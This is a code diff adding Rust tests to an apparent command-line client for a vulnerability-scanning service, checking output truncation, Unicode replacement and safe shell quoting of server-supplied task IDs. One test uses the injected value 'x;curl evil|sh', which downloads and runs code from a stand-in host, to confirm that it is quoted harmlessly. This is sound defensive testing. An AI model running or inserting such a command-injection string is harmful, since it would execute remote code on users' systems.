@@ -72,12 +72,50 @@ fn rows_that_are_null_are_left_out_and_said_to_be() {
 }
 
 #[test]
+fn a_long_value_that_is_not_known_is_cut_in_the_warning() {
+    let host = json!({"host_name": "a", "scan_status": "x".repeat(1_000_000)});
+    let ran = hosts_of(&json!({"total_num": 1, "data_list": [host]}), &["-o", "json"]);
+    assert!(ran.stderr.len() < 300 && ran.stderr.contains("xxx…\""), "{} bytes", ran.stderr.len());
+}
+
+#[test]
+fn a_command_to_paste_runs_nothing_that_a_server_named() {
+    let id = "x;curl evil|sh";
+    let server = Canned::new([canned::json(200, &json!({"task_id": id}).to_string())]);
+    let started = run(&mut hss_at(&server.url, &["scan", "start", "--all-hosts"]));
+    assert_eq!(started.printed(), "x;curl evil|sh\n");
+    assert_eq!(started.stderr, "started; follow it with: hss scan wait 'x;curl evil|sh'\n");
+    let server = Canned::new([canned::json(200, &json!({"task_id": "--html=\u{1b}[2J"}).to_string())]);
+    let started = run(&mut hss_at(&server.url, &["scan", "start", "--all-hosts"]));
+    assert_eq!(started.stderr, "started; follow it with: hss scan wait -- $'--html=\\033[2J'\n");
+    // What is printed is what a command takes.
+    let server = Canned::new([canned::json(200, r#"{"total_num":1,"data_list":[{"id":"-x","status":"finished"}]}"#)]);
+    run(&mut hss_at(&server.url, &["scan", "wait", "--", "-x"])).printed();
+}
+
+#[test]
 fn a_name_that_is_not_unicode_does_not_fail_its_page() {
     let body = r#"{"total_num":2,"data_list":[{"host_name":"a\ud800"},{"host_name":"b"}]}"#;
     let server = Canned::new([canned::json(200, body)]);
     let ran = run(&mut hss_at(&server.url, &["scan", "hosts", TASK, "-o", "csv", "--columns", "host_name"]));
     assert_eq!(ran.printed(), "host_name\r\na\u{fffd}\r\nb\r\n");
     assert_eq!(ran.stderr, "the service sent text that is not valid Unicode: U+FFFD stands in its place\n");
+}
+
+#[test]
+fn an_answer_of_hss_api_that_is_not_unicode_is_converted_and_passed_on_as_it_came() {
+    let note = "the service sent text that is not valid Unicode: U+FFFD stands in its place\n";
+    let body = r#"{"total_num":1,"data_list":[{"id":"a\ud800"}]}"#;
+    for (arguments, printed, said) in [
+        (&["-o", "csv", "--query", "data_list[].id"][..], "a\u{fffd}\r\n", note),
+        (&["-o", "ndjson", "--query", "data_list"], "{\"id\":\"a\u{fffd}\"}\n", note),
+        (&[], &format!("{body}\n"), ""),
+        (&["-o", "json"], &format!("{body}\n"), ""),
+    ] {
+        let server = Canned::new([canned::json(200, body)]);
+        let ran = run(hss_at(&server.url, &["api", "ListVulScanTask"]).args(arguments));
+        assert_eq!((ran.printed(), ran.stderr.as_str()), (printed, said), "{arguments:?}");
+    }
 }
 
 #[test]
